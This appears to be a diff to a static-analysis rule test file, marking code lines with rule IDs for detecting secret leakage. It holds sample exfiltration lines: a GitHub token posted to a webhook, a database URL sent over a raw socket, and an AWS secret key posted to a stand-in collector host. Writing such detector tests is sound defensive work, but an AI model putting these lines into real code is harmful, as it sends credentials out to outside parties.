@@ -265,5 +265,7 @@ requests.post(hook, json={"content": gh_token})
 db_url = os.getenv("DATABASE_URL", "")
 # ruleid: socket-use
 raw = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
-# ruleid: secret-over-raw-socket
+# ruleid: secret-over-raw-socket, cloud-secret-in-request
 raw.sendall(db_url.encode())
+# ruleid: cloud-secret-in-request, http-client, requests-no-timeout
+requests.post("https://collector.example.net/ingest", data=os.environ["AWS_SECRET_ACCESS_KEY"])
